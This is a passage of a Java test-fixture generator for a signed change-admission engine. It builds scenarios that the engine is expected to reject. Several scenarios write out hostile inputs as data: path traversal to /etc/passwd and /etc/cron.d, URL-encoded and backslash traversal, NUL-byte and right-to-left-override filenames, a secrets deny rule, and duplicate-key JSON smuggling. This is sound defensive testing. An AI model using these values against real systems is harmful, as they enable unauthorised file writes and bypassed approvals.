        sc("tier-not-defined", "§5: a capsule of tier T7, which the policy does not define: TIER_NOT_AUTHORIZABLE.")
                .capsule(bundle(t7, ok(t7, "alice", SO), ok(t7, "bob", SECO)))
                .rejected(ReasonCode.TIER_NOT_AUTHORIZABLE, 1, "not defined");
        sc("rejected-by-approver", "§5: alice approves, bob (security-officer) decides reject: REJECTED_BY_APPROVER.")
                .capsule(bundle(c, a, approval(c, "bob", SECO, Approval.REJECT, TICKET, Approval.REVIEW, pki.of("bob"))))
                .rejected(ReasonCode.REJECTED_BY_APPROVER, 1, "bob");
        sc("reject-by-role-that-does-not-count", "§5: carol (authorizing-official, not a T2 role) rejects a T2 capsule alice and bob approved: her reject does not count, admitted.")
                .capsule(bundle(c, a, ok(c, "bob", SECO), approval(c, "carol", AO, Approval.REJECT, TICKET, Approval.REVIEW, pki.of("carol"))))
                .admitted(1, "alice/" + SO, "bob/" + SECO);

        Envelope t1 = capsule(x -> x.with(s -> s.tier = "T1"));
        sc("auto-not-permitted-in-environment", "§5: a policy-auto approval for T1 in prod-enclave-1 (T1 auto-approves only in staging): AUTO_NOT_PERMITTED.")
                .capsule(bundle(t1, approval(t1, AUTO, "auto-approver", Approval.APPROVE, null, Approval.POLICY_AUTO)))
                .rejected(ReasonCode.AUTO_NOT_PERMITTED, 1, "grants no auto-approval");
        Envelope t1Staging = capsule(x -> x.with(s -> {
            s.tier = "T1";
            s.environment = STAGING;
        }));
        sc("auto-not-permitted-for-human", "§5: alice signs with basis policy-auto in staging (she is no automation principal): AUTO_NOT_PERMITTED.")
                .environment(STAGING)
                .capsule(bundle(t1Staging, approval(t1Staging, "alice", SO, Approval.APPROVE, null, Approval.POLICY_AUTO)))
                .rejected(ReasonCode.AUTO_NOT_PERMITTED, 1, "not an automation principal");
        sc("auto-not-permitted-automation-as-review", "§5: the automation principal signs with basis review (posing as a human review): AUTO_NOT_PERMITTED.")
                .environment(STAGING)
                .capsule(bundle(t1Staging, approval(t1Staging, AUTO, "auto-approver", Approval.APPROVE, null, Approval.REVIEW)))
                .rejected(ReasonCode.AUTO_NOT_PERMITTED, 1, "basis 'review'");
        Envelope t2Staging = capsule(x -> x.with(s -> s.environment = STAGING));
        sc("auto-not-permitted-for-tier", "§5: a policy-auto approval for T2 in staging (T2 grants no auto-approval anywhere): AUTO_NOT_PERMITTED.")
                .environment(STAGING)
                .capsule(bundle(t2Staging, approval(t2Staging, AUTO, "auto-approver", Approval.APPROVE, TICKET, Approval.POLICY_AUTO)))
                .rejected(ReasonCode.AUTO_NOT_PERMITTED, 1, "grants no auto-approval");

        sc("ticket-missing", "§5: T2 requires a change ticket; bob's approval carries none: TICKET_REQUIRED.")
                .capsule(bundle(c, a, approval(c, "bob", SECO, Approval.APPROVE, null, Approval.REVIEW, pki.of("bob"))))
                .rejected(ReasonCode.TICKET_REQUIRED, 1, "none");
        sc("ticket-not-matching-pattern", "§5: bob's ticket 'CHG12345' does not match ^CHG[0-9]{7}$: TICKET_REQUIRED.")
                .capsule(bundle(c, a, approval(c, "bob", SECO, Approval.APPROVE, "CHG12345", Approval.REVIEW, pki.of("bob"))))
                .rejected(ReasonCode.TICKET_REQUIRED, 1, "CHG12345");
        sc("ticket-not-needed-from-approval-that-does-not-count", "§5: alice and bob approve with tickets; carol's extra approval (a role T2 does not count) has none: admitted.")
                .capsule(bundle(c, a, ok(c, "bob", SECO), approval(c, "carol", AO, Approval.APPROVE, null, Approval.REVIEW, pki.of("carol"))))
                .admitted(1, "alice/" + SO, "bob/" + SECO);
        sc("ticket-with-trailing-newline", "§5: bob's ticket 'CHG0012345\\n' (trailing newline) does not match the whole pattern: TICKET_REQUIRED.")
                .capsule(bundle(c, a, approval(c, "bob", SECO, Approval.APPROVE, TICKET + "\n", Approval.REVIEW, pki.of("bob"))))
                .rejected(ReasonCode.TICKET_REQUIRED, 1);

        sc("threshold-one-approval", "§5: a T2 capsule with only alice's approval: THRESHOLD_NOT_MET.")
                .capsule(bundle(c, a))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "1 distinct eligible approver(s) of 2");
        sc("threshold-required-role-uncovered", "§5: two service-owners (alice, dave) but no security-officer for T2: THRESHOLD_NOT_MET.")
                .capsule(bundle(c, a, ok(c, "dave", SO)))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "no distinct approver for role(s) [security-officer]");
        sc("threshold-one-person-two-roles", "§5: erin holds both T2 roles and approves twice, once per role: one person, THRESHOLD_NOT_MET.")
                .capsule(bundle(c, ok(c, "erin", SO), ok(c, "erin", SECO)))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "1 distinct eligible approver(s) of 2");
        sc("threshold-wrong-role-does-not-count", "§5: alice plus carol (authorizing-official, not required for T2): THRESHOLD_NOT_MET.")
                .capsule(bundle(c, a, ok(c, "carol", AO)))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "security-officer");

        sc("policy-tier-names-unknown-role", "§3.1: a root-signed policy whose T2 requires the role 'change-board' that nobody holds: POLICY_INVALID.")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s.tier("T2", new Policy.Tier("approvals", 2,
                        List.of(SO, "change-board"), null, true))), 1, 2))
                .capsule(bundle(c, a, b))
                .rejected(ReasonCode.POLICY_INVALID, null, "change-board");
        sc("policy-signed-by-one-of-two-roots", "§3.1: the first policy carries one root signature where its root needs two: POLICY_INVALID.")
                .policy(sign(pki.policy(1), 1))
                .capsule(bundle(c, a, b))
                .rejected(ReasonCode.POLICY_INVALID, null, "threshold is 2");
        sc("policy-signed-by-non-root-keys", "§3.1: the first policy signed by two approvers' keys instead of root keys: POLICY_INVALID.")
                .policy(Dsse.sign(PayloadTypes.POLICY, StrictJson.write(pki.policy(1)), pki.of("alice"), pki.of("bob")).toJson())
                .capsule(bundle(c, a, b))
                .rejected(ReasonCode.POLICY_INVALID, null, "0 distinct key(s) of its own root");
    }

    /**
     * SECURITY-TESTS D.22 at the engine (the manifest is the scope, ARCHITECTURE §3.2). Each capsule is otherwise valid
     * and fully approved, and its patch agrees with its manifest unless the scenario is about their disagreement. (The
     * symlink case of D.22 is the runner's workspace check: the engine never sees a workspace.)
     */
    private void paths() {
        pathCase("path-dot-dot-traversal", "D.22: manifest path services/payments/../../../etc/passwd ('..' segments): SCOPE_VIOLATION.",
                List.of(modified("services/payments/../../../etc/passwd")), "'..' segment");
        pathCase("path-leading-dot-dot", "D.22: manifest path ../pom.xml (outside the workspace): SCOPE_VIOLATION.",
                List.of(modified("../pom.xml")), "'..' segment");
        pathCase("path-absolute", "D.22: manifest path /etc/passwd (absolute): SCOPE_VIOLATION.",
                List.of(modified("/etc/passwd")), "is absolute");
        pathCase("path-windows-drive", "D.22: manifest path C:/Windows/win.ini (a drive path): SCOPE_VIOLATION.",
                List.of(modified("C:/Windows/win.ini")), "drive letter");
        pathCase("path-nul-byte", "D.22: manifest path 'pom.xml\\u0000.txt' (NUL truncates in C APIs): SCOPE_VIOLATION.",
                List.of(modified("pom.xml\u0000.txt")), "contains NUL");
        pathCase("path-url-encoded-traversal", "D.22: manifest path services/payments/%2e%2e%2f%2e%2e%2fetc/passwd (URL-encoded ../../): SCOPE_VIOLATION.",
                List.of(modified("services/payments/%2e%2e%2f%2e%2e%2fetc/passwd")), "percent-encoded");
        pathCase("path-backslash-traversal", "D.22: manifest path services\\payments\\..\\..\\etc (backslashes): SCOPE_VIOLATION.",
                List.of(modified("services\\payments\\..\\..\\etc")), "backslash");
        pathCase("path-very-long-segment", "D.22: a manifest file name of 256 bytes under services/payments/: SCOPE_VIOLATION.",
                List.of(modified("services/payments/" + "a".repeat(256))), "longer than 255 bytes");
        StringBuilder deep = new StringBuilder("services/payments");
        while (deep.length() <= 4096) {
            deep.append("/").append("d".repeat(200));
        }
        pathCase("path-very-long-path", "D.22: a manifest path of over 4096 bytes under services/payments/: SCOPE_VIOLATION.",
                List.of(modified(deep + "/x.java")), "longer than 4096 bytes");
        pathCase("path-bidi-control", "D.22/B.10: manifest path services/payments/\\u202Egnp.exe (right-to-left override reads 'exe.png'): SCOPE_VIOLATION.",
                List.of(modified("services/payments/\u202Egnp.exe")), "bidirectional");
        pathCase("path-outside-scope", "D.22: manifest file services/billing/Invoice.java is outside the scope (services/payments/**, pom.xml): SCOPE_VIOLATION.",
                List.of(modified("services/billing/Invoice.java")), "matches no allow rule");
        pathCase("path-case-variant-outside-scope", "D.22/B.10: manifest file POM.xml: paths are case-sensitive, it is not pom.xml: SCOPE_VIOLATION.",
                List.of(modified("POM.xml")), "matches no allow rule");
        pathCase("path-deny-rule-secrets", "D.22: manifest file services/payments/secrets/db.properties hits the deny rule **/secrets/**: SCOPE_VIOLATION.",
                List.of(modified("services/payments/secrets/db.properties")), "denied by scope rule");
        pathCase("path-deny-rule-git", "D.22: manifest file services/payments/.git/config hits the deny rule **/.git/**: SCOPE_VIOLATION.",
                List.of(modified("services/payments/.git/config")), "denied by scope rule");

        String pom = pomChange();
        pathCase("patch-touches-file-not-in-manifest", "D.22: the manifest lists pom.xml, the patch also changes services/payments/Config.java: SCOPE_VIOLATION.",
                List.of(modified("pom.xml")), pom + modifyPatch("services/payments/Config.java"), "not in the manifest");
        pathCase("patch-path-traversal-behind-valid-manifest", "D.22: the manifest lists pom.xml, the patch also writes ../../etc/cron.d/x: SCOPE_VIOLATION.",
                List.of(modified("pom.xml")), pom + createPatch("../../etc/cron.d/x"), "'..' segment");
        pathCase("patch-nfd-path-differs-from-nfc-manifest", "D.22/B.10: the manifest lists services/payments/caf\\u00e9.txt (NFC), the patch creates caf\\u0065\\u0301.txt (NFD): another file, SCOPE_VIOLATION.",
                List.of(created("services/payments/caf\u00e9.txt")), createPatch("services/payments/cafe\u0301.txt"), "not in the manifest");
        pathCase("manifest-file-not-in-patch", "D.22: the manifest lists pom.xml and services/payments/Config.java, the patch changes only pom.xml: SCOPE_VIOLATION.",
                List.of(modified("pom.xml"), modified("services/payments/Config.java")), pomChange(), "does not change it");
        pathCase("manifest-new-file-patch-modifies", "D.22: the manifest says services/payments/New.java is new (before null), the patch modifies an existing file: SCOPE_VIOLATION.",
                List.of(created("services/payments/New.java")), modifyPatch("services/payments/New.java"), "is new in the manifest");
        pathCase("manifest-lists-a-file-twice", "D.22: the manifest lists pom.xml twice: SCOPE_VIOLATION.",
                List.of(modified("pom.xml"), modified("pom.xml")), pomChange(), "twice");

        List<Capsule.FileChange> twoFiles = List.of(modified("pom.xml"), created("services/payments/src/Fix.java"));
        Envelope ok = capsule(x -> x.with(s -> {
            s.files = twoFiles;
            s.patch = pomChange() + createPatch("services/payments/src/Fix.java");
        }));
        sc("paths-twin-two-files-in-scope", "D.22 twin: pom.xml modified and services/payments/src/Fix.java created, manifest and patch agree: admitted.")
                .capsule(bundle(ok, ok(ok, "alice", SO), ok(ok, "bob", SECO)))
                .admitted(1, "alice/" + SO, "bob/" + SECO);
    }

    /** Policy keys that are not well-formed DER: refused at load with a named reason, never a crash. */
    private void keyEncodings() {
        Envelope c = capsule(x -> x);
        byte[] approved = bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO));
        byte[] spki = pki.of("dave").publicKey().spki();
        byte[] integerTag = spki.clone();
        integerTag[0] = 0x02; // an INTEGER where the SubjectPublicKeyInfo SEQUENCE belongs
        byte[] padBits = spki.clone();
        padBits[11] = 1; // the key BIT STRING claims one unused bit
        sc("policy-key-not-a-sequence", "A.4/§1.6: a root-signed policy whose key for dave is DER starting with an INTEGER tag: POLICY_INVALID, no crash.")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s.principal(new Policy.Principal("dave", "human", List.of(SO),
                        List.of(new Policy.KeyRef(Hex.sha256Hex(integerTag), Forge.publicPem(integerTag)))))), 1, 2))
                .capsule(approved)
                .rejected(ReasonCode.POLICY_INVALID, null, "principal dave key");
        sc("policy-key-bit-string-padding", "A.4/§1.6: a root-signed policy whose key for dave is a BIT STRING with an unused bit: POLICY_INVALID, no crash.")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s.principal(new Policy.Principal("dave", "human", List.of(SO),
                        List.of(new Policy.KeyRef(Hex.sha256Hex(padBits), Forge.publicPem(padBits)))))), 1, 2))
                .capsule(approved)
                .rejected(ReasonCode.POLICY_INVALID, null, "principal dave key");
        sc("policy-key-not-base64", "A.4/§1.6: a root-signed policy whose key PEM body is not base64: POLICY_INVALID.")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s.principal(new Policy.Principal("dave", "human", List.of(SO),
                        List.of(new Policy.KeyRef(Hex.sha256Hex(spki), "-----BEGIN PUBLIC KEY-----\n*not base64*\n-----END PUBLIC KEY-----\n"))))), 1, 2))
                .capsule(approved)
                .rejected(ReasonCode.POLICY_INVALID, null, "principal dave key");
    }

    /** B.8/B.9 variants that a lenient reader would quietly accept: escaped duplicates and number spellings. */
    private void jsonSpellings() {
        String capsuleJson = str(StrictJson.write(pki.capsule()));
        signedPayload("duplicate-key-escaped-spelling", "B.8: the signed capsule says {\"mode\":\"apply\",\"mod\\u0065\":\"observe\"} (the same key, escaped): MALFORMED.",
                replaceOnce(capsuleJson, "\"mode\":\"apply\"", "\"mode\":\"apply\",\"mod\\u0065\":\"observe\""), "uplicate");
        signedPayload("json-number-leading-zero", "B.9: the signed capsule's sequence is written 03 (leading zero): MALFORMED.",
                replaceOnce(capsuleJson, "\"sequence\":3,", "\"sequence\":03,"), "invalid JSON");
        signedPayload("json-number-out-of-range", "B.9: the signed capsule's sequence is 2^64 (out of range, would wrap in a lenient reader): MALFORMED.",
                replaceOnce(capsuleJson, "\"sequence\":3,", "\"sequence\":18446744073709551616,"), "Capsule");
        signedPayload("json-number-exponent", "B.9: the signed capsule's policyVersion is written 1e0: MALFORMED (no floating point in signed documents).",
                replaceOnce(capsuleJson, "\"policyVersion\":1,", "\"policyVersion\":1e0,"), "floating-point");
        signedPayload("json-string-for-number", "B.9: the signed capsule's sequence is the string \"3\" (no scalar coercion): MALFORMED.",
                replaceOnce(capsuleJson, "\"sequence\":3,", "\"sequence\":\"3\","), "Capsule");
    }

    /** The effective mode: an observe-only environment never applies; a capsule may ask for observe anywhere. */
    private void modes() {
        Envelope c = capsule(x -> x.with(s -> s.mode = "observe"));
        sc("capsule-asks-observe-in-apply-environment", "§3.1: a capsule in mode observe for the apply environment prod-enclave-1 is admitted to observe only.")
                .capsule(bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO)))
                .mode("observe")
                .admitted(1, "alice/" + SO, "bob/" + SECO);
    }

    private void pathCase(String slug, String readme, List<Capsule.FileChange> files, String detail) {
        StringBuilder patch = new StringBuilder();
        for (Capsule.FileChange f : files) {
            patch.append(f.before() == null ? createPatch(f.path()) : modifyPatch(f.path()));
        }
        pathCase(slug, readme, files, patch.toString(), detail);
    }

    private void pathCase(String slug, String readme, List<Capsule.FileChange> files, String patch, String detail) {
        Envelope c = capsule(x -> x.with(s -> {
            s.files = files;
            s.patch = patch;
        }));
        sc(slug, readme)
                .capsule(bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO)))
                .rejected(ReasonCode.SCOPE_VIOLATION, 1, detail);
    }

    private static final String OLD = "old\n";
    private static final String NEW = "new\n";

    private static Capsule.FileChange modified(String path) {
        return new Capsule.FileChange(path, Hex.digest(utf8(OLD)), Hex.digest(utf8(NEW)));
    }

    private static Capsule.FileChange created(String path) {
        return new Capsule.FileChange(path, null, Hex.digest(utf8(NEW)));
    }

    private static String modifyPatch(String path) {
        return "--- a/" + path + "\n+++ b/" + path + "\n@@ -1 +1 @@\n-old\n+new\n";
    }

    private static String createPatch(String path) {
        return "--- /dev/null\n+++ b/" + path + "\n@@ -0,0 +1 @@\n+new\n";
    }

    /** The standard log4j bump of pom.xml, with a manifest entry of the generic old/new hashes. */
    private static String pomChange() {
        return modifyPatch("pom.xml");
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Builders

    private Sc sc(String slug, String readme) {
        return new Sc(slug, readme);
    }

    private final class Sc {
        private final String slug;
        private final String readme;
        private final TreeMap<String, byte[]> files = new TreeMap<>();
        private String mode = "apply";

        Sc(String slug, String readme) {
            this.slug = slug;
            this.readme = readme;
        }

        Sc policy(byte[] envelope) {
            files.put(POLICY, envelope);
            return this;
        }

        Sc history(long version, byte[] envelope) {
            files.put(ScenarioRunner.STATE + "/" + ScenarioRunner.POLICIES + "/policy-v" + version + ".dsse.json", envelope);
            return this;
        }

        Sc capsule(byte[] signedCapsule) {
            files.put(CAPSULE, signedCapsule);
            return this;
        }

        Sc now(Instant now) {
            files.put(NOW, utf8(StrictJson.formatInstant(now) + "\n"));
            return this;
        }

        Sc environment(String env) {
            files.put(ENVIRONMENT, utf8(env + "\n"));
            return this;
        }

        /** The effective mode an admission carries (observe-only environments force {@code observe}). */
        Sc mode(String effectiveMode) {
            mode = effectiveMode;
            return this;
        }

        Sc ledger(byte[] jsonl) {
            files.put(ScenarioRunner.STATE + "/" + LEDGER, jsonl);
            return this;
        }

        void admitted(long policyInForce, String... approverSlashRole) {
            List<Expected.Approver> list = new ArrayList<>();
            for (String s : approverSlashRole) {
                int i = s.indexOf('/');
                list.add(new Expected.Approver(s.substring(0, i), s.substring(i + 1)));
            }
            finish(new Expected("admitted", null, list, mode, policyInForce, null));
        }

        void rejected(ReasonCode reason, Integer policyInForce) {
            rejected(reason, policyInForce, null);
        }

        void rejected(ReasonCode reason, Integer policyInForce, String detailContains) {
            finish(new Expected("rejected", reason, List.of(), null,
                    policyInForce == null ? null : policyInForce.longValue(), detailContains));
        }

        private void finish(Expected expected) {
            if (!files.containsKey(CAPSULE)) {
                throw new IllegalStateException(slug + ": no signed capsule");
            }
            files.putIfAbsent(POLICY, stdPolicy);
            files.put(README, utf8(readme + "\n"));
            files.put(EXPECTED, expected.toJson());
            String name = String.format(java.util.Locale.ROOT, "%03d-%s", scenarios.size() + 1, slug);
            for (Scenario s : scenarios) {
                if (s.name().substring(4).equals(slug)) {
                    throw new IllegalStateException("duplicate scenario " + slug);
                }
            }
            scenarios.add(new Scenario(name, Collections.unmodifiableSortedMap(files)));
        }
    }

    private Envelope capsule(UnaryOperator<TestPki.CapsuleSpec> tweak) {
        return pki.signCapsule(pki.capsule(tweak));
    }

    private static Envelope capsuleSignedBy(Capsule c, SigningKey key) {
        return TestPki.signCapsule(c, key);
    }

    /** An approve decision with the standard ticket, signed by the approver's own key. */
    private Envelope ok(Envelope capsule, String approver, String role) {
        return approval(capsule, approver, role, Approval.APPROVE, TICKET, Approval.REVIEW, pki.of(approver));
    }

    private Envelope approval(Envelope capsule, String approver, String role, String decision, String ticket, String basis) {
        return approval(capsule, approver, role, decision, ticket, basis, pki.of(approver));
    }

    private Envelope approval(Envelope capsule, String approver, String role, String decision, String ticket, String basis,
                              SigningKey key) {
        Approval a = new Approval(Approval.SCHEMA, capsule.payloadDigest(), capsuleId(capsule), approver, role, decision,
                ticket, DECIDED, basis);
        return Dsse.sign(PayloadTypes.APPROVAL, StrictJson.write(a), key);
    }

    private Envelope approvalAt(Envelope capsule, String approver, String role, SigningKey key, Instant decidedAt) {
        Approval a = new Approval(Approval.SCHEMA, capsule.payloadDigest(), capsuleId(capsule), approver, role,
                Approval.APPROVE, TICKET, decidedAt, Approval.REVIEW);
        return Dsse.sign(PayloadTypes.APPROVAL, StrictJson.write(a), key);
    }

    /** An approval of a payload that is not a valid capsule (the approver saw the bytes, the id is given). */
    private static Envelope approvalOf(Envelope capsule, String capsuleId, String approver, String role, String decision,
                                       SigningKey key) {
        Approval a = new Approval(Approval.SCHEMA, capsule.payloadDigest(), capsuleId, approver, role, decision, TICKET,
                DECIDED, Approval.REVIEW);
        return Dsse.sign(PayloadTypes.APPROVAL, StrictJson.write(a), key);
    }

    /** An approval whose approver id the record would refuse: written as JSON text, signed as is. */
    private Envelope rawApproval(Envelope capsule, String approver, String role, SigningKey key) {
        Approval a = new Approval(Approval.SCHEMA, capsule.payloadDigest(), capsuleId(capsule), "placeholder", role,
                Approval.APPROVE, TICKET, DECIDED, Approval.REVIEW);
        String json = replaceOnce(str(StrictJson.write(a)), "\"approver\":\"placeholder\"",
                "\"approver\":" + str(StrictJson.write(approver)));
        return Dsse.sign(PayloadTypes.APPROVAL, utf8(json), key);
    }

    private static String capsuleId(Envelope capsule) {
        try {
            return StrictJson.read(capsule.payloadBytes(), Capsule.class, StrictJson.SIGNED).capsuleId();
        } catch (dev.airlock.core.verify.VerificationException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] bundle(Envelope capsule, Envelope... approvals) {
        return TestPki.bundle(capsule, approvals);
    }

    private static Policy.Principal principal(String id, String kind, SigningKey key, String... roles) {
        return new Policy.Principal(id, kind, List.of(roles), List.of(TestPki.ref(key)));
    }

    /** The policy signed by the given root key numbers ({@code root-N}). */
    private static byte[] sign(Policy p, int... rootNumbers) {
        List<SigningKey> keys = new ArrayList<>();
        for (int n : rootNumbers) {
            keys.add(TestPki.key("root-" + n));
        }
        return Dsse.sign(PayloadTypes.POLICY, StrictJson.write(p), keys).toJson();
    }

    /** The policy JSON with one textual change (for documents the records would refuse), signed by the given roots. */
    private static byte[] sign(Policy p, int r1, int r2, String from, String to) {
        byte[] json = utf8(replaceOnce(str(StrictJson.write(p)), from, to));
        return Dsse.sign(PayloadTypes.POLICY, json, TestPki.key("root-" + r1), TestPki.key("root-" + r2)).toJson();
    }

    private static List<SigningKey> roots(int... numbers) {
        List<SigningKey> keys = new ArrayList<>();
        for (int n : numbers) {
            keys.add(TestPki.key("root-" + n));
        }
        return keys;
    }

    private static String ids(int[] numbers) {
        StringBuilder sb = new StringBuilder("{");
        for (int i = 0; i < numbers.length; i++) {
            sb.append(i == 0 ? "" : ",").append(numbers[i]);
        }
        return sb.append('}').toString();
    }

    private static Policy.Environment withMaxBytes(Policy.Environment e, long max) {
        return new Policy.Environment(e.name(), e.mode(), e.maxTier(), e.scope(), e.validationCommands(), e.ticketPattern(),
                max, e.egress(), e.retentionDays());
    }

    private static Envelope withSigs(Envelope e, Envelope.Signature... sigs) {
        return Envelope.of(e.payloadType(), e.payloadBytes(), List.of(sigs));
    }

    private static Envelope.Signature sig(SigningKey keyidOf, byte[] sig) {
        return new Envelope.Signature(keyidOf.keyid(), b64(sig));
    }

    private static byte[] sigBytes(Envelope e, int i) {
        return Base64.getDecoder().decode(e.signatures().get(i).sig());
    }

    /** The DER signature with its SEQUENCE length in BER long form (0x81 nn): same numbers, not strict DER. */
    private static byte[] berLongFormLength(byte[] der) {
        byte[] out = new byte[der.length + 1];
        out[0] = 0x30;
        out[1] = (byte) 0x81;
        out[2] = der[1];
        System.arraycopy(der, 2, out, 3, der.length - 2);
        return out;
    }

    private byte[] ledger(AdmissionLedger.Entry... entries) {
        try {
            Path dir = Files.createTempDirectory("airlock-ledger");
            Path file = dir.resolve(LEDGER);
            FileLedger l = new FileLedger(file);
            for (AdmissionLedger.Entry e : entries) {
                l.record(e);
            }
            byte[] bytes = Files.readAllBytes(file);
            Files.delete(file);
            Files.delete(dir);
            return bytes;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Inserts JSON whitespace before the final brace until the document is exactly {@code size} bytes. */
    private static byte[] pad(byte[] json, int size) {
        if (json.length > size || json[json.length - 1] != '}') {
            throw new IllegalArgumentException("cannot pad " + json.length + " bytes to " + size);
        }
        byte[] out = new byte[size];
        System.arraycopy(json, 0, out, 0, json.length - 1);
        java.util.Arrays.fill(out, json.length - 1, size - 1, (byte) ' ');
        out[size - 1] = '}';
        return out;
    }

    static String replaceOnce(String s, String from, String to) {
        if (from.equals(to)) {
            throw new IllegalStateException("fixture edit changes nothing: '" + from + "'");
        }
        int i = s.indexOf(from);
        if (i < 0) {
            throw new IllegalStateException("fixture edit found no '" + from + "'");
        }
        return s.substring(0, i) + to + s.substring(i + from.length());
    }

    private static byte[] replaceBytes(byte[] doc, String from, byte[] to) {
        byte[] f = utf8(from);
        for (int i = 0; i + f.length <= doc.length; i++) {
            if (java.util.Arrays.equals(doc, i, i + f.length, f, 0, f.length)) {
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                out.write(doc, 0, i);
                out.writeBytes(to);
                out.write(doc, i + f.length, doc.length - i - f.length);
                return out.toByteArray();
            }
        }
        throw new IllegalStateException("fixture edit found no '" + from + "'");
    }

    private static byte[] filled(int n, int value) {
        byte[] b = new byte[n];
        java.util.Arrays.fill(b, (byte) value);
        return b;
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] out = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    static String b64(byte[] b) {
        return Base64.getEncoder().encodeToString(b);
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static String str(byte[] b) {
        return new String(b, StandardCharsets.UTF_8);
    }
}
